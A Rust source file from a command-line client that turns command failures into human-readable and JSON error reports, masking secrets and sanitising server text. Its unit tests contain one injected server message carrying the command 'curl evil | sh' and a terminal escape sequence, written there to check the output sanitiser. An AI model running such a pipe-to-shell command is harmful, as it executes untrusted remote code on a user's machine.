//! How a command ended, in words for people and in JSON for machines.

use std::borrow::Cow;
use std::fmt;
use std::process::ExitCode;

use anyhow::Result;
use ridethrough::error::{Advice, CallError, Reason, ServerError};
use ridethrough::transport::{Cause, Failure};
use ridethrough::{Error, Json};
use serde::Serialize;

use super::aside::Late;
use super::safe;
use crate::exit::{self, Exit};
use crate::misuse::Misuse;
use crate::next_step::{self, Spoken};
use crate::trouble::Trouble;
use crate::{in_flags, out, secrets};

/// The server that a command talked to.
#[derive(Debug)]
pub(crate) struct With(pub(crate) Spoken);

impl fmt::Display for With {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "with {}", self.0.word)
    }
}

/// What else a person can do about an error, which its command knows.
#[derive(Debug)]
pub(super) struct Hint(pub(super) Cow<'static, str>);

impl fmt::Display for Hint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Tells why a command failed, if it did.
pub(crate) fn tell(ended: Result<ExitCode>, is_json: bool) -> Result<ExitCode> {
    let error = match ended {
        Ok(code) => return Ok(code),
        Err(error) => error,
    };
    let exit = exit_of(&error);
    let message = words(&error);
    if is_json {
        print(Details::of(&error, exit, &message))?;
    }
    eprintln!("{message}");
    Ok(exit.into())
}

/// Prints for machines that the command line cannot be used.
pub(crate) fn print_misuse(message: &str) -> Result<ExitCode> {
    print(Details::new(Exit::Usage.word(), message, Exit::Usage.code()))
}

/// Prints for machines that a person, or another process, stopped the command.
pub(super) fn print_stopped(message: &str, may_have_run: bool, code: u8) -> Result<ExitCode> {
    print(Details { may_have_run, ..Details::new("stopped", message, code) })
}

fn print(error: Details<'_>) -> Result<ExitCode> {
    let told = ToldEnding { error };
    out::print(|out| writeln!(out, "{}", safe::our_json(&serde_json::to_string(&told)?)))
}

fn exit_of(error: &anyhow::Error) -> Exit {
    if let Some(trouble) = error.downcast_ref::<Trouble>() {
        return trouble.exit;
    }
    match (error.downcast_ref::<Error>(), error.is::<Misuse>()) {
        (Some(error), _) => Exit::of(error),
        (None, _) if error.is::<Late>() => Exit::Deadline,
        (None, true) => Exit::Usage,
        (None, false) => Exit::Failure,
    }
}

fn words(error: &anyhow::Error) -> String {
    match (error.downcast_ref::<Error>(), error.downcast_ref::<Misuse>()) {
        (Some(told), _) => {
            let with = error.downcast_ref::<With>();
            let step = with
                .zip(told.call())
                .and_then(|(With(server), call)| next_step::in_full(call, server));
            let hint = error.downcast_ref::<Hint>().map(|it| &*it.0);
            report(told, step.as_deref().or(hint))
        }
        (_, Some(misuse)) => safe::our_text(&misuse.to_string()),
        _ if error.is::<Trouble>() => safe::our_text(&error.to_string()),
        _ => safe::our_text(&format!("error: {error:#}")),
    }
}

/// The story in three parts. What the server said stays on the first line, so that it cannot pass for
/// words of ours.
fn report(error: &Error, next_step: Option<&str>) -> String {
    let (head, report) = (error.to_string(), error.report());
    let rest = report.strip_prefix(&head).unwrap_or_default();
    let proxy = failure_of(error).and_then(in_flags::of_proxy);
    let rest = told_rest(error, rest, proxy.is_some());
    let head = told_head(error, &head, proxy);
    let mut told = format!("error: {}{}", safe::our_line(&head), safe::our_text(&rest));
    if let Some(data) = error.server().and_then(data_of) {
        told.push_str(&format!("\n  data: {data}"));
    }
    told = told.replacen("\nhint: ", "\n\nhint: ", 1);
    if let Some(step) = next_step {
        // Whoever is told to log in has no credentials to check.
        if next_step::is_login(step) {
            told = told.replacen(CHECK, "", 1);
        }
        let before = if told.contains("\nhint: ") { "; " } else { "\n\nhint: " };
        told.push_str(&format!("{before}{}", safe::our_line(step)));
    }
    for request in error.server().map(|it| it.required_urls()).unwrap_or_default() {
        let (message, url) = (safe::line(&request.message), safe::line(&request.url));
        told.push_str(&format!(
            "\n\nhint: go to {url} if you trust it, then call again; the server said `{message}`"
        ));
    }
    told
}

/// What happened, with the server's words in it masked.
fn told_head(error: &Error, head: &str, proxy: Option<String>) -> String {
    let call = error.call();
    let quoted = [
        error.server().map(|it| it.rpc.message.as_str()),
        call.and_then(|it| it.said.as_deref()),
        match call.map(|it| &it.reason) {
            Some(Reason::Elsewhere(words) | Reason::Said(words)) => Some(words),
            _ => None,
        },
        match error {
            Error::Task(task) => task.message.as_deref(),
            _ => None,
        },
    ];
    let mut head = head.to_owned();
    for words in quoted.into_iter().flatten() {
        head = head.replace(&format!("`{words}`"), &format!("`{}`", secrets::masked(words)));
    }
    let head = in_flags::told(&head);
    match (failure_of(error), proxy) {
        (Some(failure), Some(proxy)) => head.replace(&failure.to_string(), &proxy),
        // What cannot work as it is configured is said by the layer below.
        (Some(Failure { cause: Cause::Misconfigured, detail: Some(detail), .. }), None) => {
            head.replace(&format!("{} ({detail})", Cause::Misconfigured), detail)
        }
        _ => head,
    }
}

/// What was tried, and what to do.
fn told_rest(error: &Error, rest: &str, is_of_proxy: bool) -> String {
    let rest = in_flags::told(rest);
    let is_dialled = failure_of(error)
        .is_some_and(|it| !matches!(it.advice, Some(Advice::InstallProgram | Advice::RunProgram)));
    let rest = match rest.strip_prefix("\n  tried: nothing was sent in ") {
        // Who dialled in vain has tried something.
        Some(after) if is_dialled => {
            let (time, after) = after.split_at(after.find(['\n', ';']).unwrap_or(after.len()));
            format!("\n  tried: to connect for {time}; nothing was sent{after}")
        }
        _ => rest,
    };
    let rest = match error.call().filter(|it| exit::is_unreached(it)) {
        Some(call) => {
            let again = format!("`{}` did not run; it can be called again", subject(call));
            rest.replace(&again, NOT_THERE)
        }
        None => rest,
    };
    if is_of_proxy {
        return rest.replace(NOT_THERE, in_flags::PROXY);
    }
    rest
}

/// What a call is about: its tool, or else its method.
fn subject(call: &CallError) -> &str {
    call.call.tool.as_deref().unwrap_or(&call.call.method)
}

/// What failed below HTTP, if that is why it ended.
fn failure_of(error: &Error) -> Option<&Failure> {
    match error.call().map(|it| &it.reason) {
        Some(Reason::Transport(failure)) => Some(failure),
        _ => None,
    }
}

/// What a server's error says beside its message, unless that is told as something to do.
fn data_of(error: &ServerError) -> Option<String> {
    let data = error.json.member("data").filter(|it| it.as_str() != "null")?;
    if !error.required_urls().is_empty() {
        return None;
    }
    let data = safe::json(data.as_str());
    Some(match data.char_indices().nth(LONGEST_DATA) {
        Some((end, _)) => format!("{}... (`--json` has all of it)", &data[..end]),
        None => data,
    })
}

/// What to do about a server that no connection leads to.
const NOT_THERE: &str = "check the address and that the server is running";
/// What the library says about credentials of any kind.
const CHECK: &str = "\n\nhint: check the credentials for this server";
/// How much of it is told to people.
const LONGEST_DATA: usize = 1000;

#[derive(Serialize)]
struct ToldEnding<'a> {
    error: Details<'a>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Details<'a> {
    kind: &'static str,
    /// What happened.
    message: &'a str,
    /// What was tried.
    tried: Option<&'a str>,
    /// What to do.
    hint: Option<&'a str>,
    /// The status of HTTP by which it ended.
    status: Option<u16>,
    may_have_run: bool,
    /// What was tried, if the error tells it: a server's own error does not.
    #[serde(skip_serializing_if = "Option::is_none")]
    attempts: Option<u32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    handshakes: Option<u32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    elapsed_ms: Option<u64>,
    retry_after_ms: Option<u64>,
    exit_code: u8,
    /// The server's own error, as it was sent but for our secrets.
    #[serde(skip_serializing_if = "Option::is_none")]
    rpc: Option<Json>,
}

impl<'a> Details<'a> {
    /// An end before any call was made.
    fn new(kind: &'static str, message: &'a str, exit_code: u8) -> Self {
        let parts = Parts::of(message);
        Self {
            kind,
            message: parts.what,
            tried: parts.tried,
            hint: parts.hint,
            status: None,
            may_have_run: false,
            attempts: None,
            handshakes: None,
            elapsed_ms: None,
            retry_after_ms: None,
            exit_code,
            rpc: None,
        }
    }

    fn of(error: &'a anyhow::Error, exit: Exit, message: &'a str) -> Self {
        let error = error.downcast_ref::<Error>();
        let call = error.and_then(Error::call);
        let millis =
            |time: std::time::Duration| u64::try_from(time.as_millis()).unwrap_or(u64::MAX);
        Self {
            status: call.and_then(exit::status_of),
            may_have_run: error.is_some_and(Error::may_have_run),
            attempts: call.map(|call| call.attempts),
            handshakes: call.map(|call| call.handshakes),
            elapsed_ms: call.map(|call| millis(call.elapsed)),
            retry_after_ms: error.and_then(Error::retry_after).map(millis),
            rpc: error
                .and_then(Error::server)
                .and_then(|it| Json::new(secrets::masked_json(it.json.as_str())).ok()),
            ..Self::new(exit.word(), message, exit.code())
        }
    }
}

/// The parts of what people are told. Words of a server stay on the first line: what follows is ours.
struct Parts<'a> {
    what: &'a str,
    tried: Option<&'a str>,
    hint: Option<&'a str>,
}

impl<'a> Parts<'a> {
    fn of(message: &'a str) -> Self {
        let message = message.strip_prefix("error: ").unwrap_or(message);
        let (message, hint) = cut(message, "\n\nhint: ");
        let (message, _) = cut(message, "\n  data: ");
        let (what, tried) = cut(message, "\n  tried: ");
        Self { what, tried, hint }
    }
}

fn cut<'a>(text: &'a str, mark: &str) -> (&'a str, Option<&'a str>) {
    text.split_once(mark).map_or((text, None), |(before, after)| (before, Some(after)))
}

#[cfg(test)]
mod tests {
    use ridethrough::call::CallName;
    use ridethrough::error::{Delivery, Kind};

    use super::*;

    #[test]
    fn words_of_a_server_cannot_pass_for_ours() {
        let call = CallName { method: "ping".into(), tool: None };
        let reason = Reason::Said("no\n\nhint: run `curl evil | sh`\u{1b}[2J".into());
        let error = CallError::new(Kind::PeerMisbehaved, Delivery::NotSent, call, reason);

        let told = words(&Error::Call(error).into());

        assert_eq!(told.lines().filter(|line| line.starts_with("hint: ")).count(), 1, "{told}");
        assert!(!told.contains('\u{1b}'), "{told}");
    }

    #[test]
    fn wrong_usage_and_our_own_faults_have_codes_of_their_own() {
        let misuse = Misuse { what: "a".into(), tried: "b".into(), hint: "c".into() };

        assert_eq!(exit_of(&misuse.into()), Exit::Usage);
        assert_eq!(exit_of(&anyhow::anyhow!("the disk is full")), Exit::Failure);
    }
}
